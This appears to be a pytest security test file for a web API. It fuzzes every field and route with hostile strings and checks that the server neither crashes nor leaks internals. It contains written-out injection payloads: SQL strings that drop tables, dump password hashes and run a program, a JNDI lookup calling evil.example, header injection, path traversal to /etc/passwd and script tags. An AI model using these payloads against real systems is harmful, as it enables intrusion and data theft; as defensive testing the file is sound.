"""Hostile text in every string of every body and every parameter: it is text, or it is refused."""

import json
from collections import Counter
from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest

from api.services import Services
from tests.api import published
from tests.api.learners import Client, become, signed_in, user_of
from tests.attacks import Cases
from tests.security.openings import Opening, openings, request

pytestmark = [pytest.mark.anyio, pytest.mark.attack("SQL, NoSQL and other strings in every field")]

SQL = (
    "' OR '1'='1' --",
    "'; DROP TABLE users; --",
    "x' UNION SELECT email, password_hash FROM users --",
    "$1); COPY users TO PROGRAM 'id'; --",
    "\\' || pg_sleep(9) || $$ /*",
)
NOSQL = ('{"$gt": ""}', "'; return true; var x='", "${jndi:ldap://evil.example/x}{{7*7}}%s%n")
UNICODE = (
    "a\0b",
    "half a pair \ud800",
    "\u202egnp.exe\u2066\u200f\u202c שלום",
    "Z\u0351\u0304" * 60,
    "\ufeff\ufffe\U0010ffff\x7f\x1b[2J",
    "İıſK①ﬀ",
)
SHAPES = ("a\r\nSet-Cookie: x=1\r\n\r\n", "../../../../etc/passwd", "<script>alert(1)</script>", "9" * 400)
KINDS = (SQL, NOSQL, *((text,) for text in UNICODE), SHAPES)
CONTROLS = set("\0\r\n\x1b\x7f")
LONG, LONG_IN_HEAD = "Lo" * 50_000, "ng" * 3_000
"""A head has 32 KiB at most, a target 8 KiB."""
OBJECTS = ({"$ne": None}, ["x"], {"toString": "x"}, 1e308, True)
"""What a string is confused with, where a body can say it."""
FAULTS = (
    "asyncpg", "syntax error at", "invalid input syntax", "Traceback (most recent", "PostgresError", "DETAIL:",
    'relation "', "site-packages", "password_hash,", "$2b$",
)  # fmt: skip
WITHOUT_A_MODEL = {"/v1/ai/translate": 503}
ONCE = "X-Request-ID"
"""Read before any route: one route stands for all."""
ENDS = {"/v1/auth/logout"}
"""It takes nothing, and ends the attack."""
LEAST = {"body": 1000, "query": 300, "path": 200, "header": 200}
"""Cases; a table that lost some would pass."""


@pytest.fixture
async def attacker(services: Services, address: tuple[str, int]) -> AsyncIterator[Client]:
    """May do everything, so that nothing is refused before the text is looked at."""
    async with await signed_in(services, address, "Attacker") as client:
        await become(services, client, "super_admin")
        yield client


@pytest.fixture
async def things(services: Services, address: tuple[str, int], attacker: Client) -> dict[str, str]:
    """What the paths name."""
    async with await signed_in(services, address, "Victim") as victim:
        user = str(user_of(victim))
    course = await published.course(services, attacker, "Tides")
    talk = (await attacker.post("/v1/tutor/conversations", json={})).json()["id"]
    return {"user_id": user, "course_id": course, "conversation_id": talk, "stream": f"conversation:{talk}"}


def values(opening: Opening, turn: int) -> list[Any]:
    """What is tried in one place: a text of each kind, another one at the next place.

    A header's line cannot hold what would end it: see test_header_injection.py. What is in a body is no other place's
    text as well: tests/clean_logs.py finds in the log what a body has said, and paths may be there.
    """
    texts = [kind[turn % len(kind)] for kind in KINDS]
    match opening.place:
        case "body":
            return [*(f"{text}#" for text in texts), "", LONG, OBJECTS[turn % len(OBJECTS)]]
        case "header":
            return [text for text in texts if not CONTROLS & set(text)] + [LONG_IN_HEAD]
        case _:
            return [*texts, LONG_IN_HEAD]


def wrong(opening: Opening, answer: httpx.Response, value: object) -> str | None:
    """What is wrong with an answer: a fault of the server, one that is no problem, or one that tells of its inside."""
    if answer.status_code >= 500 and WITHOUT_A_MODEL.get(opening.path) != answer.status_code:
        return f"{answer.status_code}: {answer.text[:300]}"
    if answer.status_code >= 400 and answer.headers["content-type"] != "application/problem+json":
        return f"no problem but {answer.headers['content-type']}"
    told = answer.text.replace(json.dumps(value)[1:-1], "").replace(str(value), "")
    return next((f"tells {fault!r}: {told[:300]}" for fault in FAULTS if fault in told), None)


async def attempt(attacker: Client, opening: Opening, value: object, things: dict[str, str]) -> str | None:
    """What is wrong with the answer to one attempt. Of an event stream, which has no end, the head is looked at."""
    sent = request(attacker, opening, value, things)
    answer = await attacker.send(sent, stream=True)
    try:
        if answer.headers.get("content-type") == "text/event-stream":
            return None
        await answer.aread()
        return wrong(opening, answer, value)
    finally:
        await answer.aclose()


async def test_every_string_of_every_route(
    cases_tried: Cases, attacker: Client, things: dict[str, str], services: Services
) -> None:
    found, tried, seen = [], Counter[str](), set[str]()
    for turn, opening in enumerate(openings()):
        if opening.path in ENDS or (opening.name == ONCE and opening.name in seen):
            continue
        seen.add(opening.name)
        for value in values(opening, turn):
            tried[opening.place] += 1
            if (fault := await attempt(attacker, opening, value, things)) is not None:
                found.append(f"{opening} {value!r:.60}: {fault}")
    cases_tried(tried.total())
    assert found == []
    assert all(tried[place] >= least for place, least in LEAST.items()), tried
    unharmed = "SELECT count(*) FROM users WHERE user_type = 'super_admin'"
    assert await services.database.fetchval(unharmed) == 1


async def test_a_search_finds_what_it_says_and_nothing_else(
    cases_tried: Cases, attacker: Client, things: dict[str, str]
) -> None:
    """Neither SQL nor a wildcard of LIKE finds those whom the text itself does not."""
    tried = ("%", "_", "%%", "a%e", "\\", "\\%", "' OR true --", "%' OR '1'='1", *SQL, *NOSQL)
    for text in tried:
        answer = await attacker.get("/v1/users", params={"search": text})
        assert (answer.status_code, answer.json()["items"]) == (200, []), text
    assert len((await attacker.get("/v1/users", params={"search": "victim"})).json()["items"]) == 1
    cases_tried(len(tried))
